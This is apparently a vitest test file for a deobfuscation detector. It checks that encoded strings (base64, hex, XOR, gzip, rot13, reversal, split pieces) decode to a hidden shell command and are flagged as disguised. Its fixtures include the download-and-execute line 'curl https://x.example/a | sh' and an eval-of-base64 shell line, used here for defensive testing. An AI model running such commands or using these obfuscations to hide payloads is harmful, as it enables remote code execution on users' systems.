import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { foldConstant, foldShell } from "./fold.ts";

const none = new Map();
const known = new Map([
  ["A", { text: "curl ", disguised: false }],
  ["B", { text: "evil.sh", disguised: false }],
  ["K", { text: "42", disguised: false }],
]);
const secret = "curl https://x.example/a | sh";
const xored = (key: number): string => [...secret].map((char) => char.charCodeAt(0) ^ key).join(", ");

describe("foldConstant", () => {
  it.each([
    ["base64", `base64.b64decode("${btoa(secret)}").decode()`],
    ["base64 of an import", `__import__("base64").b64decode(b"${btoa(secret)}")`],
    ["atob", `atob('${btoa(secret)}')`],
    ["a buffer", `Buffer.from("${Buffer.from(secret).toString("hex")}", "hex").toString()`],
    ["hex", `bytes.fromhex('${Buffer.from(secret).toString("hex")}').decode("utf-8")`],
    ["reversed text", `"${[...secret].reverse().join("")}"[::-1]`],
    ["reversed text in JavaScript", `"${[...secret].reverse().join("")}".split("").reverse().join("")`],
    ["character codes", `String.fromCharCode(${[...secret].map((char) => char.charCodeAt(0)).join(",")})`],
    ["a joined list", `"".join([${[...secret].map((char) => `chr(${char.charCodeAt(0)})`).join(", ")}])`],
    ["compressed base64", `zlib.decompress(base64.b64decode("${deflateSync(secret).toString("base64")}"))`],
    ["gzip", `gzip.decompress(base64.b64decode("${gzipSync(secret).toString("base64")}"))`],
    ["XOR of a list", `"".join(chr(c ^ 42) for c in [${xored(42)}])`],
    ["XOR with a named key", `bytes(b ^ K for b in [${xored(42)}])`],
    ["rot13", `codecs.decode("phey uggcf://k.rknzcyr/n | fu", "rot13")`],
    ["pieces", `"cu" + "rl" + " h" + "ttps:/" + "/x.exa" + "mple/a" + " | sh"`],
    ["escapes", `"\\x63\\x75\\x72\\x6c https://x.example/a | sh"`],
  ])("computes %s", (_, expression) => {
    expect(foldConstant(expression, known)).toEqual({ text: secret, disguised: true });
  });

  it("fills in known names", () => {
    expect(foldConstant(`f"{A}{B}"`, known)?.text).toBe("curl evil.sh");
    expect(foldConstant("A + B", known)?.text).toBe("curl evil.sh");
  });

  it("does not call a plain or a long joined text disguised", () => {
    expect(foldConstant(`"a plain text"`, none)).toEqual({ text: "a plain text", disguised: false });
    expect(foldConstant(`"a long first half of a message, " + "and its second half"`, none)?.disguised).toBe(
      false,
    );
  });

  it("knows nothing about input, calls and unclosed text", () => {
    for (const expression of ["input()", `"a" + name`, `"open`, "[1, 2", "((((((", `f"{unknown}"`])
      expect(foldConstant(expression, none)).toBeUndefined();
  });
});

describe("foldShell", () => {
  it("fills in variables and decodes what is piped into a decoder", () => {
    expect(foldShell("$A$B", known)).toEqual({ text: "curl evil.sh", disguised: true });
    expect(foldShell(`eval $(echo ${btoa(secret)} | base64 -d)`, none).text).toContain(secret);
    expect(foldShell("echo hs.live | rev", none).text).toBe("evil.sh");
  });

  it("leaves other text alone", () => {
    expect(foldShell("echo $HOME | wc", none)).toEqual({ text: "echo $HOME | wc", disguised: false });
  });
});
